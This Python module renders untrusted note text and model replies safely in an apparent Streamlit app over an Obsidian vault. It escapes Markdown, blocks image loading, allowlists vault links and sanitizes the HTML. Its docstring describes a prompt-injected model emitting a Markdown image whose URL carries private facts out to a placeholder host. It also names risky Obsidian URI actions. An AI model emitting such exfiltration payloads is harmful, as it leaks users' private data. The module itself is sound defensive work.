"""The one way the app shows a string it did not write — a note's text, heading, title or file name, a chat export,
a memory fact, a model's reply: as plain text, or as Markdown with nothing in it that reaches out.

A note (or a model a note talked into it) can hold `![x](https://host/p.png?d=<private facts>)`: rendered, the
browser fetches it and the facts leave. So:
- `text()` is for a string shown as it is, inside Streamlit Markdown (labels, captions, list lines): every ASCII
  punctuation character is backslash-escaped (CommonMark allows that escape for each of them, so nothing of the
  string is read as Markdown or as a Streamlit directive), control characters are dropped, newlines become spaces.
  Streamlit's Markdown also turns bare web and e-mail addresses into links (GFM autolinks, read from the text after
  escapes): a word joiner (U+2060, invisible) goes after each `@`, between `://` and after `www`, where no
  autolinker reads an address across it.
- `markdown_html()` is for Markdown meant to be read as Markdown (an answer, a quote): parsed by markdown-it-py with
  raw HTML off; an image is shown as its text and address, never loaded; a link is live only when it opens a note
  of this vault in Obsidian (`obsidian://open?vault=<its name>&file=<a path inside it>`, nothing else: not
  `obsidian://new`, no plugin's action, no other vault) or goes to a citation in the page; any other is its text
  followed by the address as text. A wikilink (`[[Note|alias]]`, `![[embed]]`) reads as a person reads it in
  Obsidian (rag/text/wikilinks.py), never as brackets; it is live only when it names a note of this vault, and then
  it is that note's `obsidian://open` link, under the same rule. A callout's marker (`> [!note]`) reads as its kind
  in bold, as Obsidian labels it. The HTML is then cleaned by Ammonia (`nh3`) with a short list of tags, no URL
  scheme but `obsidian` and the same link rule, so a slip in the rules above still cannot load or run anything.
  Show the result with `st.html`, never `st.markdown`. `st.html` drops every `obsidian:` address from an `href`
  (its sanitizer allows web schemes only), so a live note link also carries it in `data-obsidian`, from which the
  page's script (app_pages/browser_scripts.py) sets it back.
"""

from __future__ import annotations

import re
from html import escape
from pathlib import Path
from urllib.parse import unquote

import nh3
from markdown_it import MarkdownIt

from rag.surface import note_for, obsidian_url, printable, wikilinks

_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")  # every ASCII punctuation character
# Where GFM's autolinker starts reading an address (`www.`, `http://`, `a@b.c`): a word joiner goes there.
_ADDRESS_START = re.compile(r"(?i)(?<=www)(?=\.)|(?<=:)(?=//)|(?<=@)")
_JOINER = "\u2060"
_NOTE_LINK = "obsidian://open?"
_CITATION = re.compile(r"#cite-\d+-S\d+")  # ui_render.cite_href: a citation the page catches
_ABSOLUTE = re.compile(r"^(?:[/\\]|[A-Za-z]:)")

# What the cleaned HTML may hold: text structure, no media, no forms, no styles of its own.
_TAGS = {
    "p", "br", "hr", "blockquote", "pre", "code", "em", "strong", "s", "del", "ul", "ol", "li", "a", "span", "mark",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "div",
}  # fmt: skip
_ATTRIBUTES = {
    "a": {"href", "data-obsidian", "class", "title"},
    "span": {"class"},
    "mark": {"class"},
    "div": {"class"},
    "ol": {"start"},
    "code": {"class"},
}


def text(value: object) -> str:
    """`value` as literal text inside Streamlit Markdown: nothing in it is markup, a link, an image or a directive."""
    return _PUNCTUATION.sub(r"\\\1", _ADDRESS_START.sub(_JOINER, _one_line(str(value))))


def words(value: object) -> str:
    """Words of a note or a reply (a claim, an evidence line) as literal text, like `text()`, with each wikilink as
    a person reads it ("[[Notes/SQLite WAL|WAL settings]]" → "WAL settings")."""
    return text(wikilinks.readable(printable(value)))


def _one_line(value: str) -> str:
    return re.sub(r"\s*[\r\n]+\s*", " ", printable(value))


def is_live_link(href: str, vault: Path | None) -> bool:
    """A link the app lets the user follow: a note of `vault` in Obsidian, or a citation in this page."""
    return bool(_CITATION.fullmatch(href)) or opens_vault_note(href, vault)


def opens_vault_note(href: str, vault: Path | None) -> bool:
    """`href` is `obsidian://open?vault=<vault's name>&file=<a path inside it>`: those two parameters once each and
    nothing else, read percent-decoded as Obsidian reads them. Any other action (`new` with `overwrite`, a plugin's
    `advanced-uri` running a command), another vault, or a path that leaves the vault is not."""
    if vault is None or not href.startswith(_NOTE_LINK) or "#" in href:
        return False
    values: dict[str, str] = {}
    for pair in href[len(_NOTE_LINK) :].split("&"):
        name, sep, value = pair.partition("=")
        if not sep or name not in ("vault", "file") or name in values:
            return False
        try:
            values[name] = unquote(value, errors="strict")
        except UnicodeDecodeError:
            return False
    return values.keys() == {"vault", "file"} and values["vault"] == vault.name and _inside(vault, values["file"])


def _inside(vault: Path, path: str) -> bool:
    """A relative path without `..` that resolves (links followed) to something inside `vault`."""
    if not path.strip() or printable(path) != path or "\n" in path or "\t" in path or _ABSOLUTE.match(path):
        return False
    if ".." in re.split(r"[/\\]", path):
        return False
    try:
        root = vault.resolve()
        target = (root / path).resolve()
    except (OSError, RuntimeError, ValueError):
        return False
    return target != root and target.is_relative_to(root)


def _parser() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True  # every address is kept to be shown as text; which are live is decided below
    md.core.ruler.before("inline", "callout", _callout)
    md.inline.ruler.before("link", "wikilink", _wikilink)
    md.add_render_rule("wikilink", _wikilink_html)
    md.add_render_rule("image", _image)
    md.add_render_rule("link_open", _link_open)
    md.add_render_rule("link_close", _link_close)
    return md


_CALLOUT = re.compile(r"\[!([A-Za-z][A-Za-z-]{0,30})\][+-]?[ \t]*")


def _callout(state) -> None:
    """An Obsidian callout's marker (`> [!note] Title`, the first line of a quote) as its kind in bold, as Obsidian
    shows it (a label, not "[!note]"); the kind is letters only, so nothing of the note's text becomes Markdown."""
    tokens = state.tokens
    for i in range(2, len(tokens)):
        if tokens[i].type == "inline" and tokens[i - 1].type == "paragraph_open" and tokens[i - 2].type == "blockquote_open":
            match = _CALLOUT.match(tokens[i].content)
            if match:
                kind = match.group(1).replace("-", " ").capitalize()
                rest = tokens[i].content[match.end() :]
                tokens[i].content = f"**{kind}**" + (" " if rest and not rest.startswith("\n") else "") + rest


def _wikilink(state, silent: bool) -> bool:
    """`[[…]]` or `![[…]]` at this point of the inline text: one token (inside code it is never reached)."""
    match = wikilinks.WIKILINK.match(state.src, state.pos)
    if match is None:
        return False
    if not silent:
        state.push("wikilink", "", 0).meta = {"link": wikilinks.parse(match)}
    state.pos = match.end()
    return True


def _wikilink_html(self, tokens, idx, options, env) -> str:
    link = tokens[idx].meta["link"]
    shown = escape(link.shown)
    vault = env.get("vault")
    path = note_for(vault, link) if vault is not None else None
    href = obsidian_url(vault, path) if path else ""
    if not (href and opens_vault_note(href, vault)):
        return f'<span class="rag-wikilink">{shown}</span>'
    return f'<a href="{escape(href)}" data-obsidian="{escape(href)}" class="rag-wikilink">{shown}</a>'


def _image(self, tokens, idx, options, env) -> str:
    token = tokens[idx]
    alt = self.renderInlineAsText(token.children or [], options, env)
    src = str(token.attrGet("src") or "")
    return f'<span class="rag-image">{escape(f"![{alt}]({src})")}</span>'


def _link_open(self, tokens, idx, options, env) -> str:
    token = tokens[idx]
    href = str(token.attrGet("href") or "")
    if is_live_link(href, env.get("vault")):
        closing = "</a>"
    elif token.markup == "autolink":  # <https://…>: its text is the address already
        closing = ""
    else:
        closing = f' <span class="rag-url">({escape(href)})</span>'
    env.setdefault("closing", []).append(closing)
    if closing != "</a>":
        return ""
    kept = f' data-obsidian="{escape(href)}"' if href.startswith(_NOTE_LINK) else ""  # st.html drops it from href
    return f'<a href="{escape(href)}"{kept}>'


def _link_close(self, tokens, idx, options, env) -> str:
    return env["closing"].pop()


_MD = _parser()


def markdown_html(source: str, *, vault: Path | None = None, replace: dict[str, str] | None = None) -> str:
    """Markdown from a note or a model as cleaned HTML for `st.html`. `vault`: the vault whose notes a link may open
    in Obsidian (None: none). `replace`: markers the caller put into the source (private-use characters, e.g. around
    a claim to highlight) and the HTML each becomes after rendering."""
    html = _MD.render(printable(source), {"vault": vault})
    for marker, tag in (replace or {}).items():
        html = html.replace(marker, tag)

    def links_by_the_rule(element: str, attribute: str, value: str) -> str | None:
        if element == "a" and attribute in ("href", "data-obsidian"):
            return value if is_live_link(value, vault) else None
        return value

    return nh3.clean(
        html,
        tags=_TAGS,
        attributes=_ATTRIBUTES,
        attribute_filter=links_by_the_rule,
        url_schemes={"obsidian"},
        link_rel=None,
        strip_comments=True,
    )
